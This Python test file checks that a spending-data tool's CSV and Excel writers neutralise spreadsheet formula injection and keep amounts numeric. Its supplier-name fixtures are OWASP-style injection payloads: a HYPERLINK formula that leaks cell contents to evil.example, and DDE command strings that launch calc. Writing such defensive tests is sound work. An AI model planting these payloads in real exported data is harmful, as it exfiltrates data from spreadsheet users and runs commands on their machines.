"""The one CSV and XLSX writer: text a spreadsheet would run is neutralised everywhere, numbers stay numbers."""

from __future__ import annotations

import csv
import io
import math
from decimal import Decimal

from support.data import write_csv
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from typer.testing import CliRunner

from totalplace.cli import app
from totalplace.ingest.load import ingest
from totalplace.report.contents import PlaceReport
from totalplace.report.document import write_csvs, write_workbook
from totalplace.present.section import Section
from totalplace.present.tables import Format, Table, emit, write_xlsx
from totalplace.tabular import FORMULA_STARTS, csv_text, restored

HEADER = "Service Label,Expenditure category,Payment date,Transaction Number,Net Amount,Supplier Name\n"
# Supplier names as an attacker would write them (OWASP's examples), and one harmless name.
EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
        "-2+3", "@SUM(1+1)", "\tTAB LTD", "\rCR LTD"]


def runs_as_formula(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


@given(st.text(max_size=40))
def test_no_csv_text_cell_can_start_a_formula_and_the_text_is_kept(text):
    cell = list(csv.reader(io.StringIO(csv_text(["x", "y"], [[1, text]]), newline="")))[1][1]
    assert cell in (text, "'" + text)  # the text is kept, at most a quote before it
    assert not runs_as_formula(cell) or _finite_number(cell)  # a spreadsheet runs nothing
    assert cell == text or runs_as_formula(text.lstrip("'"))  # only text that could run is changed
    assert restored(cell) == text  # and the software reading its own file back gets the text as it was


def _finite_number(text: str) -> bool:
    try:
        return math.isfinite(float(text))
    except ValueError:
        return False


@given(st.decimals(min_value=-10**9, max_value=10**9, places=2, allow_nan=False))
def test_numbers_stay_numbers_in_csv(amount):
    row = list(csv.reader(io.StringIO(csv_text(["amount"], [[amount]]))))[1]
    assert Decimal(row[0]) == amount  # a negative amount is not neutralised into text


def _table() -> Table:
    return Table("Suppliers", ["supplier", "amount", "share"],
                 [[name, Decimal("-12.50"), 0.25] for name in EVIL] + [["ACME LTD", Decimal("3.00"), 0.75]],
                 notes=["=HYPERLINK(\"x\") in a note"])


def test_cli_csv_and_xlsx_and_report_downloads_neutralise_formulas(tmp_path, small_place):
    rows = "".join(f'Adult Services,Residential Care,2018-04-{n + 1:02d},{n},-12.50,"{name}"\n'
                   for n, name in enumerate(n.replace('"', '""') for n in EVIL))
    write_csv(small_place.agency_dir("bradford-council") / "m.csv", HEADER + rows)
    ingest(small_place)
    runner = CliRunner()
    target = tmp_path / "suppliers.xlsx"
    result = runner.invoke(app, ["count", "-w", str(small_place.root), "--by", "supplier", "--format", "xlsx",
                                 "-o", str(target)])
    assert result.exit_code == 0, result.output
    _assert_workbook_safe(target)
    result = runner.invoke(app, ["count", "-w", str(small_place.root), "--by", "supplier", "--format", "csv"])
    _assert_csv_safe(result.output)
    # The report's writers: a CSV per table, the workbook, and `emit` to a file.
    section = Section(id="s", title="S", tables=[_table()])
    folder = write_csvs([section], tmp_path / "csv")
    for path in folder.glob("*.csv"):
        _assert_csv_safe(path.read_text(encoding="utf-8"))
    _assert_workbook_safe(write_workbook(PlaceReport("Place", "2018-19", [section], {}), tmp_path / "report.xlsx"))
    write_xlsx(_table(), tmp_path / "table.xlsx")
    _assert_workbook_safe(tmp_path / "table.xlsx")
    emit(_table(), Format.csv, tmp_path / "t.csv")
    _assert_csv_safe((tmp_path / "t.csv").read_text(encoding="utf-8"))


def _assert_csv_safe(text: str) -> None:
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    names = [c for c in cells if c.lstrip("'") in [e for e in EVIL]]
    assert len(names) >= len(EVIL) - 2, cells  # the names are there (tab/CR ones may be trimmed on load)...
    assert not [c for c in cells if runs_as_formula(c) and not _finite_number(c)], cells  # ...none runs
    assert "-12.50" in cells  # and the amount is still a number


def _assert_workbook_safe(path) -> None:
    book = load_workbook(path)
    formulas = [(sheet.title, c.coordinate, c.value) for sheet in book for row in sheet.iter_rows() for c in row
                if c.data_type == "f"]
    assert formulas == []
    texts = [c for sheet in book for row in sheet.iter_rows() for c in row
             if isinstance(c.value, str) and c.value.lstrip("'") in EVIL]
    assert texts and all(c.data_type == "s" for c in texts)
    numbers = [c.value for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "n"
               and c.value is not None]
    assert -12.5 in numbers
